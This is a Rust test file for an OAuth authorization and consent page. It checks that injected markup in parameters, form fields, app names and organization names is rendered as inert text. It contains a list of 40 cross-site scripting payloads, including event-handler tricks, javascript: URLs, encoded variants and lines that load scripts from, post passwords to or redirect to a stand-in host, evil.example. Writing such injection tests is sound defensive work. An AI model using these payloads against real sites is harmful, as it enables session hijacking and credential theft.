//! S6, V12: markup in whatever a request or an app carries comes back as text, or not at all.

use routix_domain::organization::Role;
use routix_domain::value::BranchRestriction;
use serde_json::json;

use crate::http::app::TestApp;
use crate::http::browser::{Browser, FROM_OUR_PAGE, Page};
use crate::http::code_flow::{AUTHORIZE, Request, start};
use crate::http::html::tags;
use crate::http::world::{Actor, origin};

const MARKUP: [&str; 40] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "x onmouseover=alert(1) ",
    "\"/><x y=\"",
    "<!--",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?>",
    "<!doctype x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "{{ 7 * 7 }}{% if x %}${7*7}#{7*7}",
    "{ $app } { $email } { NUMBER($x) }",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
];

/// Two browsers, one of each language, in which somebody is signed in.
async fn readers(app: &TestApp, actor: Actor) -> [Browser; 2] {
    let browsers = ["en", "nl"].map(|language| Browser::reading(app, language));
    for browser in &browsers {
        browser.sign_in(actor).await;
    }
    browsers
}

/// The names of all tags and of their attributes: markup that took effect would change them.
fn shape(page: &Page) -> Vec<String> {
    let line = |tag: &crate::http::html::Tag| format!("{} {}", tag.name, tag.names().collect::<Vec<_>>().join(" "));
    tags(&page.text).iter().map(line).collect()
}

fn assert_text(page: &Page, markup: &str, expected: &[String]) {
    assert_eq!(shape(page), expected, "{markup} at {}: {}", page.path, page.text);
    let is_markup = markup.contains(['<', '>', '"', '\'', '&']);
    assert!(!is_markup || !page.text.contains(markup), "{markup} at {}: {}", page.path, page.text);
}

#[tokio::test]
async fn s6_v12_in_every_parameter() {
    let (app, client) = start(json!({})).await;
    let request = Request::of(&client);
    let names = [
        "response_type",
        "client_id",
        "redirect_uri",
        "code_challenge",
        "code_challenge_method",
        "scope",
        "state",
        "resource",
        "prompt",
        "unknown",
    ];
    let [english, dutch] = readers(&app, Actor::Member).await;
    for browser in [english, dutch, Browser::new(&app)] {
        for name in names {
            let harmless = browser.get(&request.with(name, "harmless").path()).await;
            let expected = shape(&harmless);
            for markup in MARKUP {
                for request in [request.with(name, markup), request.with(name, &format!("{markup}{markup}"))] {
                    let page = browser.get(&request.path()).await;
                    assert_eq!(page.status, harmless.status, "{name} {markup}");
                    assert_text(&page, markup, &expected);
                    assert!(page.location().bytes().all(|b| b.is_ascii_graphic() && !b"<>\"'`{}".contains(&b)));
                }
            }
        }
    }
}

#[tokio::test]
async fn s6_in_the_names_of_parameters() {
    let (app, client) = start(json!({})).await;
    let request = Request::of(&client);
    for browser in readers(&app, Actor::Member).await {
        let expected = shape(&browser.get(&request.and("harmless", "x").path()).await.expect(200));
        for markup in MARKUP {
            assert_text(&browser.get(&request.and(markup, "x").path()).await.expect(200), markup, &expected);
            let doubled = browser.get(&request.and(markup, "x").and(markup, "x").path()).await.expect(303);
            assert!(!doubled.location().contains("alert"), "{}", doubled.location());
        }
    }
}

#[tokio::test]
async fn s6_in_the_fields_of_the_form() {
    let (app, client) = start(json!({})).await;
    for browser in readers(&app, Actor::Member).await {
        let page = browser.get(&Request::of(&client).path()).await.expect(200);
        for field in ["request", "organization_id", "decision", "unknown"] {
            let mut expected = None;
            for markup in ["harmless"].into_iter().chain(MARKUP) {
                let mut fields = page.form("consent").fields;
                // No decision is made, so that the page stays as it is.
                fields
                    .push(("decision".to_owned(), if field == "organization_id" { "approve" } else { "x" }.to_owned()));
                fields.retain(|(name, _)| name != field);
                fields.push((field.to_owned(), markup.to_owned()));
                let refused = browser.post(AUTHORIZE, &fields, &FROM_OUR_PAGE).await;
                assert!([400, 403].contains(&refused.status), "{field} {markup}: {}", refused.status);
                let expected = expected.get_or_insert_with(|| shape(&refused));
                assert_text(&refused, markup, expected);
            }
        }
    }
}

#[tokio::test]
async fn s6_in_the_name_and_the_homepage_of_an_app() {
    let (app, client) = start(json!({"homepage_url": "https://myerp.example/"})).await;
    let owner = app.sign_in(Actor::Owner).await;
    let browsers = readers(&app, Actor::Foreigner).await;
    let request = Request::of(&client).path();
    let mut expected = Vec::new();
    for browser in &browsers {
        expected.push(shape(&browser.get(&request).await.expect(200)));
    }
    for markup in MARKUP {
        // What the domain refuses, such as space at the ends, is never shown.
        let name = app.change(&owner, &client.app_id, &json!({"name": markup})).await;
        assert_eq!(name.status, if markup.trim() == markup && markup.len() <= 100 { 204 } else { 400 }, "{markup}");
        let homepage = format!("https://myerp.example/?{markup}");
        let homepage = app.change(&owner, &client.app_id, &json!({"homepage_url": homepage})).await;
        assert!([204, 400].contains(&homepage.status), "{markup}");
        for (browser, expected) in browsers.iter().zip(&expected) {
            let page = browser.get(&request).await.expect(200);
            assert_text(&page, markup, expected);
            assert!(
                name.status == 400 || page.words().contains(&markup.split_whitespace().collect::<Vec<_>>().join(" "))
            );
        }
    }
}

#[tokio::test]
async fn s6_in_the_name_of_an_organization() {
    let (app, client) = start(json!({})).await;
    let browsers = readers(&app, Actor::Foreigner).await;
    let request = Request::of(&client).path();
    let system = app.clock.system();
    // One more, so that there is a choice to show.
    let add = async |name: &str| {
        let id = system.id();
        app.commands.create_organization(id, (name.to_owned(), Actor::Owner.id()), &origin()).await.unwrap();
        app.commands
            .add_member((id, Actor::Foreigner.id()), Role::Member, BranchRestriction::All, &origin())
            .await
            .unwrap();
        id
    };
    let id = add("harmless").await;
    let mut expected = Vec::new();
    for browser in &browsers {
        expected.push(shape(&browser.get(&request).await.expect(200)));
    }
    app.commands.remove_member((id, Actor::Foreigner.id()), &origin()).await.unwrap();
    for markup in MARKUP {
        let id = add(markup).await;
        for (browser, expected) in browsers.iter().zip(&expected) {
            let page = browser.get(&request).await.expect(200);
            assert_text(&page, markup, expected);
            assert!(page.words().contains(&markup.split_whitespace().collect::<Vec<_>>().join(" ")), "{markup}");
        }
        app.commands.remove_member((id, Actor::Foreigner.id()), &origin()).await.unwrap();
    }
}
